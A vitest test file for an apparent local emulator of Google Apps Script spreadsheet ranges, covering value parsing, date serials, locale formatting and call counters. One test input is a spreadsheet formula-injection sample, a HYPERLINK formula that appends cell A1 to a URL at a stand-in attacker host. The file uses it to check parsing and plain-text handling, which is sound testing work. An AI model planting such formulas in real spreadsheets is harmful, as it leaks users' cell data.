/** Range values as Apps Script stores and returns them: USER_ENTERED parsing, plain-text cells, dates as serials. */
import { describe, expect, it } from 'vitest';
import { createWorkbook } from '../../local/runtime';
import { EVAL_BUNDLE, runtimeWith } from './bundle';

function sheetRuntime(options = {}) {
  const runtime = runtimeWith(EVAL_BUNDLE, options);
  const run = (source: string) => runtime.call('run', `var sh = SpreadsheetApp.getActiveSpreadsheet().getSheets()[0]; ${source}`);
  const sheet = () => runtime.spreadsheet.getSheets()[0]!;
  return { runtime, run, sheet };
}

describe('setValues / getValues', () => {
  it('refuses data whose shape does not match the range, with Apps Script’s texts', () => {
    const { run } = sheetRuntime();
    expect(() => run(`sh.getRange(1, 1, 3, 2).setValues([[1, 2], [3, 4]])`)).toThrow(
      'The number of rows in the data does not match the number of rows in the range. The data has 2 but the range has 3.',
    );
    expect(() => run(`sh.getRange(1, 1, 1, 3).setValues([[1, 2]])`)).toThrow(
      'The number of columns in the data does not match the number of columns in the range. The data has 2 but the range has 3.',
    );
    expect(() => run(`sh.getRange(1, 1, 2, 2).setValues([[1, 2], [3]])`)).toThrow(
      'The number of columns in the data does not match the number of columns in the range. The data has 1 but the range has 2.',
    );
  });

  it('reads empty cells as "" and keeps numbers, booleans and strings', () => {
    const { run } = sheetRuntime();
    expect(run(`sh.getRange(1, 1, 1, 3).setValues([[1.5, true, 'Miete']]); sh.getRange(1, 1, 2, 4).getValues()`)).toEqual([
      [1.5, true, 'Miete', ''],
      ['', '', '', ''],
    ]);
  });

  it('parses strings as typed (USER_ENTERED): formulas, numbers, booleans, dates; an apostrophe forces text', () => {
    const { run, sheet } = sheetRuntime();
    run(`sh.getRange(1, 1, 1, 12).setValues([['=HYPERLINK("http://evil.example/?"&A1;"klick")', '+Angreifer', '-foo', "'=x", '0012', '12.5', '-3', 'TRUE', 'false', '2024-01-31', '31.01.2024', '1.234,56']]); 1`);
    const [values] = sheet().getRange(1, 1, 1, 12).getValues();
    const [formulas] = sheet().getRange(1, 1, 1, 12).getFormulas();
    expect(formulas).toEqual(['=HYPERLINK("http://evil.example/?"&A1;"klick")', '=+Angreifer', '=-foo', '', '', '', '', '', '', '', '', '']);
    expect(values!.slice(0, 9)).toEqual(['#NAME?', '#ERROR!', '#ERROR!', '=x', 12, 12.5, -3, true, false]);
    expect(values![9]).toEqual(new Date('2024-01-30T23:00:00Z')); // midnight in Europe/Berlin
    expect(values![10]).toEqual(new Date('2024-01-30T23:00:00Z'));
    expect(values![11]).toBe(1234.56); // de_DE grouping and decimal comma
  });

  it('stores strings verbatim in plain-text (@) cells: no formula, no number', () => {
    const { run, sheet } = sheetRuntime();
    run(`var r = sh.getRange(1, 1, 1, 4); r.setNumberFormat('@'); r.setValues([['=SUM(1)', '+Angreifer', '0012', '2024-01-31']]); 1`);
    expect(sheet().getRange(1, 1, 1, 4).getValues()).toEqual([['=SUM(1)', '+Angreifer', '0012', '2024-01-31']]);
    expect(sheet().getRange(1, 1, 1, 4).getFormulas()).toEqual([['', '', '', '']]);
  });

  it('stores Dates as serial numbers in the spreadsheet time zone and gives them back as Dates of the bundle realm', () => {
    const { run, sheet } = sheetRuntime();
    const result = run(`
      var when = new Date(Date.UTC(2024, 11, 30, 23, 30)); // 2024-12-31 00:30 in Berlin
      sh.getRange(1, 1, 1, 1).setValues([[when]]);
      var back = sh.getRange(1, 1, 1, 1).getValues()[0][0];
      [back instanceof Date, back.getTime() === when.getTime()]`);
    expect(result).toEqual([true, true]);
    sheet().getRange(1, 1, 1, 1).setNumberFormat('0.00000');
    expect(sheet().getRange(1, 1, 1, 1).getValues()[0]![0]).toBeCloseTo(45657 + 0.5 / 24, 6); // serial 45657 = 2024-12-31; 00:30 local time
  });

  it('reads a number in a date-formatted cell as midnight of that day in the spreadsheet zone', () => {
    const { run } = sheetRuntime({ workbook: { timeZone: 'Europe/Berlin' } });
    const iso = run(`var r = sh.getRange(1, 1, 1, 1); r.setNumberFormat('yyyy-mm-dd'); r.setValues([[45657]]); r.getValues()[0][0].toISOString()`);
    expect(iso).toBe('2024-12-30T23:00:00.000Z'); // 45657 is 2024-12-31 (45292 = 2024-01-01); 00:00 Europe/Berlin
    const { run: runNy } = sheetRuntime({ workbook: { timeZone: 'America/New_York' } });
    expect(runNy(`var r = sh.getRange(1, 1, 1, 1); r.setNumberFormat('dd.mm.yyyy'); r.setValues([[45657]]); r.getValues()[0][0].toISOString()`)).toBe('2024-12-31T05:00:00.000Z');
  });

  it('formats display values per number format and locale', () => {
    const { run } = sheetRuntime({ workbook: { locale: 'de_DE' } });
    const shown = run(`var r = sh.getRange(1, 1, 1, 7);
      r.setValues([[1234.56, 45657, -12, 0.256, 'Text', true, 1234.5]]);
      r.setNumberFormats([['#,##0.00', 'dd.mm.yyyy', '#,##0.00 "€"', '0.0%', '@', 'General', 'General']]);
      r.getDisplayValues()`);
    expect(shown).toEqual([['1.234,56', '31.12.2024', '-12,00 €', '25,6%', 'Text', 'TRUE', '1234,5']]);
    const { run: runEn } = sheetRuntime({ workbook: { locale: 'en_US' } });
    expect(runEn(`var r = sh.getRange(1, 1, 1, 3); r.setValues([[1234.56, 45657, 0.5]]); r.setNumberFormats([['#,##0.00', 'yyyy-mm-dd', 'hh:mm']]); r.getDisplayValues()`)).toEqual([
      ['1,234.56', '2024-12-31', '12:00'],
    ]);
  });

  it('clears content but keeps formats; stores font weight', () => {
    const { run, sheet } = sheetRuntime();
    run(`var r = sh.getRange(1, 1, 1, 2); r.setNumberFormat('@'); r.setValues([['a', '=1']]); r.setFontWeight('bold'); r.clearContent(); 1`);
    expect(sheet().getRange(1, 1, 1, 2).getValues()).toEqual([['', '']]);
    expect(sheet().getRange(1, 1, 1, 2).getNumberFormats()).toEqual([['@', '@']]);
    expect(sheet().getRange(1, 1, 1, 2).getFontWeights()).toEqual([['bold', 'bold']]);
    expect(sheet().getLastRow()).toBe(0);
  });

  it('lets a test read the used range of a sheet', () => {
    const book = createWorkbook({ timeZone: 'Europe/Berlin', sheets: { T: [['Datum', 'Betrag']] } });
    book.sheet('T').getRange(2, 1, 1, 2).setValues([['31.01.2024', '1.500,00']]);
    expect(book.sheet('T').values()).toEqual([['Datum', 'Betrag'], [new Date('2024-01-30T23:00:00Z'), 1500]]);
    expect(book.sheet('T').displayValues()).toEqual([['Datum', 'Betrag'], ['31.01.2024', '1500']]);
  });
});

describe('call counters', () => {
  it('count every call on every fake as Class.method, so tests can assert batching', () => {
    const { runtime, run } = sheetRuntime();
    runtime.counters.reset();
    run(`var r = sh.getRange(1, 1, 100, 3); r.setValues(r.getValues()); PropertiesService.getUserProperties().getProperty('x'); 1`);
    expect(runtime.counters.snapshot()).toEqual({
      'SpreadsheetApp.getActiveSpreadsheet': 1,
      'Spreadsheet.getSheets': 1,
      'Sheet.getRange': 1,
      'Range.getValues': 1,
      'Range.setValues': 1,
      'PropertiesService.getUserProperties': 1,
      'Properties.getProperty': 1,
    });
    expect(runtime.counters.get('Range.setValues')).toBe(1);
    expect(runtime.counters.get('Range.setValue')).toBe(0);
    expect(runtime.counters.total()).toBe(7);
    expect(runtime.counters.byService('SpreadsheetApp')).toBe(5);
    expect(runtime.counters.byService('PropertiesService')).toBe(2);
    runtime.counters.reset();
    expect(runtime.counters.total()).toBe(0);
  });

  it('do not count what tests do directly on the workbook', () => {
    const { runtime } = sheetRuntime();
    runtime.spreadsheet.getSheets()[0]!.getRange(1, 1, 1, 1).setValues([[1]]);
    runtime.spreadsheet.sheet(runtime.spreadsheet.getSheets()[0]!.getName()).values();
    expect(runtime.counters.total()).toBe(0);
  });
});
